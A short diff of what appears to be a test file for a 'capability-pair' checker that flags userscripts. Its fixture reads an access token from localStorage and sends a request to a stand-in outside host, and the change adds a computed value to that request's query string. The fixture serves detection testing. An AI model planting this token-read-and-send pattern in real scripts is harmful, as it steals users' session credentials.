@@ -23,7 +23,7 @@ describe("capability-pair", () => {
 			userscript(
 				["match https://shop.example/*"],
 				`const t=localStorage.getItem("access_token");
-fetch("https://c.stranger.test/ping")`,
+fetch("https://c.stranger.test/ping?"+unfold(4))`,
 			),
 		],
 		[
